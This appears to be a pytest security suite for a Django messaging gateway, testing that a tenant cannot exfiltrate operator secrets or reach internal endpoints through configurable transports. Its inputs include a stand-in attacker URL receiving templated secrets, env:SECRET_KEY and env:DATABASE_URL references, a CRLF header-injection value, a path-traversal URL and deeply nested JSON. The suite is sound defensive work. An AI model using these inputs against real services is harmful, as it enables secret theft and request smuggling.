"""Attacks on the transport boundary, made as a second tenant would make them through the API."""

import http.server
import subprocess
import sys
import threading

import pytest
from django.conf import settings as django_settings

from templates.models import Template
from transports import engine
from transports.models import Transport
from transports.secrets import secrets_encrypt, transport_secrets
from transports.testing import make_transport
from whatsapp_gateway.testing import database_rows

ATTACKER_HOST = "https://93.184.216.34/collect"


def _generic(url=ATTACKER_HOST, **request):
    return {"request": {"url": url, "body": {"to": "{%address%}", "k": "{%secrets.k%}"}, **request}}


@pytest.fixture(autouse=True)
def _no_allow_list(settings):
    settings.TRANSPORT_ALLOWED_HOSTS = []
    settings.TRANSPORT_SECRET_ENV_NAMES = []


# --- env: references belong to the operator ----------------------------------------------------


@pytest.mark.parametrize(
    ("body", "field", "problem"),
    [
        ({"config": _generic(), "secrets": {"k": "env:SECRET_KEY"}}, "secrets", "secrets.k: env: references"),
        ({"config": _generic(), "secrets": {"k": "x", "d": "env:DATABASE_URL"}}, "secrets", "secrets.d: env:"),
        (
            {"whatsapp_cloud": {"phone_number_id": "1", "access_token": "env:WHATSAPP_ACCESS_TOKEN"}},
            "whatsapp_cloud", "whatsapp_cloud.access_token: env: references",
        ),
    ],
)
def test_a_tenant_cannot_store_an_env_reference(api, body, field, problem):
    before = database_rows()
    response = api.post("/api/v1/transports/", {"name": "t", **body}, format="json")
    assert response.status_code == 400, response.content
    assert problem in " ".join(response.json()[field])
    assert database_rows() == before


def test_a_tenant_cannot_add_an_env_reference_by_update(api, app):
    created = api.post("/api/v1/transports/", {"name": "t", "config": _generic(), "secrets": {"k": "v"}}, format="json")
    assert created.status_code == 201, created.content
    before = database_rows()
    response = api.patch(f"/api/v1/transports/{created.json()['id']}/", {"secrets": {"k": "env:SECRET_KEY"}},
                         format="json")
    assert response.status_code == 400 and "secrets.k: env:" in response.json()["secrets"][0]
    assert database_rows() == before


def test_a_reference_to_an_unlisted_variable_resolves_to_nothing(monkeypatch, settings):
    monkeypatch.setenv("OPERATOR_TOKEN", "tok-OPERATOR")
    transport = make_transport(
        config=_generic(), secrets={"k": "env:SECRET_KEY", "d": "env:DATABASE_URL", "t": "env:OPERATOR_TOKEN"}
    )
    assert transport_secrets(transport) == {"k": "", "d": "", "t": ""}
    settings.TRANSPORT_SECRET_ENV_NAMES = ["OPERATOR_TOKEN"]
    assert transport_secrets(transport) == {"k": "", "d": "", "t": "tok-OPERATOR"}


def test_a_stored_reference_never_reaches_the_provider_unless_listed(provider, monkeypatch):
    monkeypatch.setenv("SOME_SETTING", "value-from-env")
    transport = make_transport(provider.base_url)
    transport.encrypted_secrets = secrets_encrypt({"accessToken": "env:SOME_SETTING"})
    (result,) = engine.send_batch(transport, {"content": "hi"}, [engine.Outgoing(1, "15550100001", {"name": "A"})])
    assert result.ok
    assert provider.received[0]["headers"]["Authorization"] == "Bearer"
    assert "value-from-env" not in repr(provider.received)


def test_a_tenant_cannot_repoint_a_transport_that_uses_operator_references(api, app, settings):
    settings.TRANSPORT_SECRET_ENV_NAMES = ["WHATSAPP_ACCESS_TOKEN"]
    transport = Transport.objects.create(
        app=app, name="operator-made", config=_generic(),
        encrypted_secrets=secrets_encrypt({"k": "env:WHATSAPP_ACCESS_TOKEN"}),
    )
    before = database_rows()
    moved = api.patch(f"/api/v1/transports/{transport.pk}/", {"config": _generic("https://93.184.216.35/x")},
                      format="json")
    assert moved.status_code == 400 and "only an operator can change its config" in moved.json()["config"][0]
    assert database_rows() == before
    renamed = api.patch(f"/api/v1/transports/{transport.pk}/", {"name": "renamed"}, format="json")
    assert renamed.status_code == 200, renamed.content


def test_an_operator_stores_a_listed_reference_in_the_admin_but_not_an_unlisted_one(
    admin_client, app, settings, monkeypatch
):
    monkeypatch.setenv("WHATSAPP_ACCESS_TOKEN", "tok-OPERATOR")
    settings.TRANSPORT_SECRET_ENV_NAMES = ["WHATSAPP_ACCESS_TOKEN"]
    form = {"app": app.pk, "name": "op", "kind": "API", "is_active": "on", "app_secret": "", "verify_token": "",
            "config": '{"request": {"url": "https://93.184.216.34/s", "headers": {"A": "{%secrets.accessToken%}"}}}'}
    refused = admin_client.post("/admin/transports/transport/add/",
                                {**form, "access_token": "env:SECRET_KEY", "other_secrets": ""})
    assert refused.status_code == 200
    assert b"env:SECRET_KEY is not listed in TRANSPORT_SECRET_ENV_NAMES" in refused.content
    assert not Transport.objects.exists()
    added = admin_client.post("/admin/transports/transport/add/",
                              {**form, "access_token": "env:WHATSAPP_ACCESS_TOKEN", "other_secrets": ""})
    assert added.status_code == 302
    assert transport_secrets(Transport.objects.get()) == {"accessToken": "tok-OPERATOR"}


# --- the simulator's control API and the allow-list ---------------------------------------------


def test_a_tenant_transport_cannot_reach_the_simulators_control_api(api, settings):
    settings.TRANSPORT_ALLOWED_HOSTS = ["127.0.0.1:8001/v"]
    before = database_rows()
    for url in ("http://127.0.0.1:8001/_sim/config", "http://127.0.0.1:8001/v23.0/../_sim/config"):
        body = {"name": "peek", "config": _generic(url, method="GET"), "secrets": {"k": "v"}}
        response = api.post("/api/v1/transports/", body, format="json")
        assert response.status_code == 400
        assert "outside the allowed prefixes (/v)" in response.json()["config"][0]
    assert database_rows() == before


def test_a_control_api_url_built_per_message_is_refused_at_send_time(provider, settings):
    settings.TRANSPORT_ALLOWED_HOSTS = [f"127.0.0.1:{provider.port}/v"]
    transport = make_transport(provider.base_url)
    transport.config["request"]["url"] = "{%message.meta.url%}"
    message = {"content": "hi", "meta": {"url": f"{provider.base_url}/_sim/config"}}
    (result,) = engine.send_batch(transport, message, [engine.Outgoing(1, "15550100001", {"name": "A"})])
    assert (result.ok, result.category) == (False, "PERMANENT") and "outside the allowed prefixes" in result.error_title
    assert provider.received == []


@pytest.mark.parametrize(("debug", "expected"), [("true", "['127.0.0.1:8001/v']"), ("false", "[]")])
def test_the_default_allow_list_is_the_simulators_graph_paths_in_debug_and_empty_otherwise(debug, expected):
    from whatsapp_gateway.testing import production_env

    env = {**production_env(DEBUG=debug), "DJANGO_SETTINGS_MODULE": "whatsapp_gateway.settings"}
    env.pop("TRANSPORT_ALLOWED_HOSTS", None)
    env.pop("SIMULATOR_URL", None)
    result = subprocess.run(
        [sys.executable, "-c", "import django; django.setup(); from django.conf import settings as s; "
         "print(s.TRANSPORT_ALLOWED_HOSTS, s.TRANSPORT_SECRET_ENV_NAMES)"],
        cwd=django_settings.BASE_DIR, env=env, capture_output=True, text=True, timeout=60,
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.split() == [expected, "[]"]


# --- one recipient never breaks its batch --------------------------------------------------------


def test_a_recipient_whose_url_no_client_can_encode_fails_alone(provider, settings):
    settings.TRANSPORT_ALLOWED_HOSTS = [f"127.0.0.1:{provider.port}"]
    transport = make_transport(provider.base_url)
    transport.config["request"]["url"] = f"http://{{%recipient.params.host%}}:{provider.port}/send"
    hosts = ["127.0.0.1", "a..b", "a" * 64 + ".example", "exa mple.com", "127.0.0.1"]
    outgoing = [engine.Outgoing(i, f"1555010000{i}", {"host": host, "name": "A"}) for i, host in enumerate(hosts)]
    results = engine.send_batch(transport, {"content": "hi"}, outgoing)
    assert [r.ok for r in results] == [True, False, False, False, True], [r.error_title for r in results]
    assert {r.category for r in results if not r.ok} == {"PERMANENT"}
    assert all("not a valid host name" in r.error_title for r in results if not r.ok)
    assert len(provider.received) == 2


def test_a_header_value_with_a_line_break_fails_only_that_recipient(provider):
    transport = make_transport(provider.base_url)
    transport.config["request"]["headers"] = {"X-Name": "{%recipient.params.name%}"}
    outgoing = [engine.Outgoing(1, "15550100001", {"name": "Ana"}),
                engine.Outgoing(2, "15550100002", {"name": "Bob\r\nX-Injected: 1"})]
    first, second = engine.send_batch(transport, {"content": "hi"}, outgoing)
    assert first.ok and (second.ok, second.category) == (False, "PERMANENT")
    assert "line break" in second.error_title and len(provider.received) == 1


@pytest.mark.parametrize(
    ("config", "problem"),
    [
        (_generic("http://a..b/x"), "request.url: host 'a..b' is not a valid host name"),
        (_generic(f"http://{'a' * 64}.example/x"), "is not a valid host name"),
        (_generic(headers={"X-A\r\nX-B": "1"}), "request.headers.X-A\r\nX-B: a header name may only contain"),
        (_generic(headers={"X A": "1"}), "request.headers.X A: a header name"),
        (_generic(headers={"X-A": "1\r\nX-B: 2"}), "request.headers.X-A: a header value may not contain a line break"),
    ],
)
def test_a_config_no_request_can_be_made_from_is_a_400_naming_the_field(api, config, problem):
    before = database_rows()
    response = api.post("/api/v1/transports/", {"name": "t", "config": config, "secrets": {"k": "v"}}, format="json")
    assert response.status_code == 400, response.content
    assert any(problem in line for line in response.json()["config"])
    assert database_rows() == before


# --- a redirect is not a success ---------------------------------------------------------------


@pytest.fixture
def redirecting_server():
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(302)
            self.send_header("Location", "http://127.0.0.1:9/elsewhere")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1]
    server.shutdown()


def test_a_template_sync_answered_with_a_redirect_deletes_nothing(api, app, settings, redirecting_server):
    base = f"http://127.0.0.1:{redirecting_server}"
    settings.TRANSPORT_ALLOWED_HOSTS = [f"127.0.0.1:{redirecting_server}"]
    created = api.post("/api/v1/transports/", {"name": "wa", "whatsapp_cloud": {
        "phone_number_id": "1", "business_account_id": "2", "access_token": "tok", "base_url": base,
    }}, format="json")
    assert created.status_code == 201, created.content
    transport = Transport.objects.get(pk=created.json()["id"])
    for name in ("hello_world", "order_confirmation"):
        Template.objects.create(app=app, transport=transport, name=name, language="en_US", status="APPROVED")
    before = database_rows()
    response = api.post("/api/v1/templates/sync", {"transport": transport.pk}, format="json")
    assert response.status_code in (400, 502), response.content
    assert "HTTP 302 redirect, not followed" in response.content.decode()
    assert database_rows() == before
    assert set(Template.objects.values_list("status", flat=True)) == {"APPROVED"}


# --- what is left of the boundary: admin JSON, Graph answers, deletes, racing names ------------


def test_a_json_field_nested_past_any_parser_is_a_form_error_in_the_admin(admin_client, app):
    before = database_rows()
    page = admin_client.post("/admin/transports/transport/add/", {
        "app": app.pk, "name": "deep", "kind": "API", "is_active": "on", "access_token": "", "app_secret": "",
        "verify_token": "", "other_secrets": "[" * 100_000, "config": "[" * 100_000,
    })
    assert page.status_code == 200 and b"nested more than" in page.content
    assert database_rows() == before


@pytest.fixture
def deep_json_server():
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = b"[" * 100_000 + b"]" * 100_000
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1]
    server.shutdown()


def test_a_graph_answer_nested_past_the_parser_is_unreadable_not_a_crash(api, app, settings, deep_json_server):
    settings.TRANSPORT_ALLOWED_HOSTS = [f"127.0.0.1:{deep_json_server}"]
    created = api.post("/api/v1/transports/", {"name": "wa", "whatsapp_cloud": {
        "phone_number_id": "1", "business_account_id": "2", "access_token": "tok",
        "base_url": f"http://127.0.0.1:{deep_json_server}",
    }}, format="json")
    assert created.status_code == 201, created.content
    before = database_rows()
    response = api.post("/api/v1/templates/sync", {"transport": created.json()["id"]}, format="json")
    assert response.status_code == 502 and "no data list" in response.content.decode()
    assert database_rows() == before


def test_a_transport_with_webhook_events_cannot_be_deleted_through_the_api(api, app):
    from broadcasts.models import WebhookEvent

    created = api.post("/api/v1/transports/", {"name": "t", "config": _generic(), "secrets": {"k": "v"}},
                       format="json").json()
    WebhookEvent.objects.create(transport_id=created["id"], body_sha256="0" * 64, payload={})
    before = database_rows()
    response = api.delete(f"/api/v1/transports/{created['id']}/")
    assert response.status_code == 409 and "webhook events" in response.json()["detail"]
    assert database_rows() == before


def test_a_name_taken_by_a_racing_request_is_a_400_naming_name(api, app, monkeypatch):
    from transports import services

    assert api.post("/api/v1/transports/", {"name": "twin", "config": _generic(), "secrets": {"k": "v"}},
                    format="json").status_code == 201
    monkeypatch.setattr(services, "transport_name_check", lambda **kwargs: None)  # both passed the check
    before = database_rows()
    response = api.post("/api/v1/transports/", {"name": "twin", "config": _generic(), "secrets": {"k": "v"}},
                        format="json")
    assert response.status_code == 400 and "twin" in response.json()["name"][0]
    assert database_rows() == before
